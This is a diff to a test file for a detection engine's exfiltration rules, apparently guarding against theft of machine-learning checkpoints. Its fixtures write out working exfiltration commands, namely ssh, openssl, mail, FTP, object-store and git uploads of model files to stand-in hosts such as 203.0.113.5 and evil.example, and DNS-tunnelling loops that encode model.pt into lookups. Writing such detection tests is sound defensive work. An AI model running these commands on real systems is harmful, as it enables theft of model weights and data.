@@ -1,7 +1,10 @@
 /**
  * Exfiltration through an exec, through the shipped rule set and the real engine: curl sending a
- * file or its stdin as the request body, data piped into ssh (MLS-EXFIL-014) and a pod made to serve its files
- * (MLS-EXFIL-016). Plain API posts, header files and servers that are not started stay quiet.
+ * file or its stdin as the request body, data piped or fed on stdin into ssh, FTP puts and more
+ * upload CLIs (MLS-EXFIL-014), a pod made to serve its files (MLS-EXFIL-016), checkpoints packed
+ * by an argv command (MLS-EXFIL-013), data encoded into DNS lookups (MLS-EXFIL-017) and pushed
+ * with git (MLS-EXFIL-018). Plain API posts, header files, servers that are not started, kubectl
+ * cp's own tar, lookups and code pushes stay quiet.
  */
 import { describe, expect, it } from 'vitest';
 import { execRuleIds } from './exec-events.test-support.js';
@@ -60,5 +63,98 @@ describe('a pod made to serve its files (MLS-EXFIL-016)', () => {
       ['python3', '-m', 'torch.distributed.run', 'train.py'],
       ['curl', 'http://localhost:8000/'],
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-016');
+  });
+});
+
+describe('packing checkpoints as argv, not only in a script (MLS-EXFIL-013)', () => {
+  it('alerts on tar, cp -r, zip -r and rsync given as argv, past a wrapper, and on kubectl cp in a script', () => {
+    for (const argv of [
+      ['tar', 'czf', '/tmp/m.tgz', '/mnt/ckpt'],
+      ['/bin/tar', '-zcvf', '/tmp/m.tgz', '/mnt/ckpt/llama'],
+      ['nice', '-n', '19', 'tar', '--create', '-f', '/tmp/m.tar', '/mnt/ckpt'],
+      ['cp', '-r', '/mnt/ckpt', '/tmp/x'],
+      ['zip', '-r', '/tmp/w.zip', '/data/weights'],
+      ['rsync', '-a', '/mnt/ckpt/', 'u@203.0.113.5:/x'],
+      sh('tar -zcvf /tmp/m.tgz /mnt/ckpt'),
+      sh('kubectl cp /mnt/ckpt/model.pt other-ns/pod-0:/tmp/m.pt'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-013');
+  });
+
+  it("leaves kubectl cp's own tar (the archive to stdout), an unpack into the directory and other files", () => {
+    for (const argv of [
+      ['tar', 'cf', '-', '/mnt/ckpt/model.pt'],
+      ['tar', 'xmf', '-', '-C', '/mnt/ckpt'],
+      sh('tar -C /mnt/ckpt -xf /tmp/a.tar'),
+      ['tar', 'czf', '/tmp/logs.tgz', '/var/log/train'],
+      ['cp', '-r', '/etc/config', '/tmp/config'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-013');
+  });
+});
+
+describe('uploads the tool list did not name (MLS-EXFIL-014)', () => {
+  it('alerts on a file fed on stdin to ssh, openssl or a mailer', () => {
+    for (const argv of [
+      sh(`ssh u@203.0.113.5 'cat > m.pt' < /mnt/ckpt/model.pt`),
+      sh(`sudo ssh u@203.0.113.5 "dd of=m" 0</tmp/m.tgz`),
+      sh('openssl s_client -quiet -connect 203.0.113.5:443 < /tmp/m.tgz'),
+      sh('mail -s report a@evil.example < /mnt/ckpt/tokenizer.json'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('alerts on FTP puts, object-store CLIs, hf upload and curl -T given in one word', () => {
+    for (const argv of [
+      sh('tftp 203.0.113.5 -c put /mnt/ckpt/model.pt'),
+      sh('lftp -e "put /tmp/m.tgz; bye" ftp://203.0.113.5'),
+      ['s3cmd', 'put', '/mnt/ckpt/model.pt', 's3://drop/'],
+      ['mc', 'mirror', '/mnt/ckpt', 'drop/bucket'],
+      sh('az storage blob upload -f /tmp/m.tgz -c c -n m'),
+      ['hf', 'upload', 'someone/llama-copy', '/mnt/ckpt'],
+      sh(`curl -X PUT -T- ${U} < /mnt/ckpt/model.pt`),
+      ['curl', `-T/tmp/m.tgz`, U],
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('leaves ssh with stdin from /dev/null, a training script reading its config on stdin, a download and hf download', () => {
+    for (const argv of [
+      sh('ssh bastion.corp.example uptime < /dev/null'),
+      sh('python3 train.py < /mnt/ckpt/config.yaml'),
+      sh('curl -fsSL -o /tmp/x https://example.com/x'),
+      ['hf', 'download', 'meta-llama/Llama-3-8B', '--local-dir', '/mnt/ckpt'],
+      ['ssh', 'h', 'cat', '<', '/mnt/ckpt/model.pt'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
+  });
+});
+
+describe('data encoded into DNS lookups (MLS-EXFIL-017)', () => {
+  it('alerts on hex or base32 chunks looked up with dig, nslookup or host', () => {
+    for (const argv of [
+      sh('for c in $(xxd -p -c 30 /mnt/ckpt/model.pt); do dig $c.x.evil.example; done'),
+      sh('xxd -p /tmp/m.tgz | while read l; do nslookup $l.evil.example; done'),
+      sh('base32 -w 60 /tmp/m.tgz | tr -d = | while read l; do host $l.evil.example; done'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-017');
+  });
+
+  it('leaves a lookup alone and a base64-decoded secret beside one', () => {
+    for (const argv of [
+      ['nslookup', 'kube-dns.kube-system.svc.cluster.local'],
+      sh('echo $TOKEN | base64 -d > /tmp/t; dig +short kube-dns.kube-system.svc.cluster.local'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-017');
+  });
+});
+
+describe('checkpoints pushed with git (MLS-EXFIL-018)', () => {
+  it('alerts on a checkpoint directory committed and pushed, and git -C into it', () => {
+    for (const argv of [
+      sh('cd /mnt/ckpt && git init -q && git add . && git commit -qm x && git push https://203.0.113.5/r.git HEAD'),
+      ['git', '-C', '/mnt/ckpt/llama', 'push', 'origin', 'main'],
+      sh('cd /data/weights && git lfs push --all origin'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-018');
+  });
+
+  it('leaves a code push and a clone into the checkpoint directory', () => {
+    for (const argv of [
+      sh('cd /workspace/repo && git pull && git push origin main'),
+      ['git', 'clone', 'https://git.corp.example/ml/train.git', '/mnt/ckpt/code'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-018');
   });
 });
